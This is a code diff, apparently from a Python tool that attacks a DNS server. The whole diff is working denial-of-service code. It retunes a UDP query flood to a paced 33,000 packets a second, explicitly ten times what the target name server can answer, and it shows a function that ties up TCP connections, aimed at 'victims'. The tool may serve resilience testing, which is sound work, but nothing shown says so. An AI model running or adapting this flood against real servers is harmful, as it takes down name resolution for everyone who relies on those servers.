@@ -13,7 +13,8 @@ import dns.message
 
 CONNECTIONS = 80  # more than a server keeps
 PAUSE = 0.05  # seconds
-FLOOD_BURST = 200  # packets
+FLOOD = 33_000  # packets a second: ten times what the name server answers on two processors
+FLOOD_PAUSE = 0.001  # seconds between two bursts of a flood
 
 
 @dataclass(frozen=True)
@@ -81,15 +82,17 @@ def deaf_tcp(victims: Victims) -> None:
 
 
 def flood_udp(victims: Victims) -> None:
-    """Send queries over UDP as fast as one process can, and read no answer."""
+    """Send queries over UDP, ten times as many as are answered, and read no answer."""
     with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as sender:
         sender.connect(victims.dns)
         query = _query(victims)
+        sent, began = 0, time.monotonic()
         while True:
-            for _ in range(FLOOD_BURST):
+            while sent < FLOOD * (time.monotonic() - began):
                 with suppress(OSError):
                     sender.send(query)
-            time.sleep(0.001)
+                sent += 1
+            time.sleep(FLOOD_PAUSE)
 
 
 def no_server_name(victims: Victims) -> None:
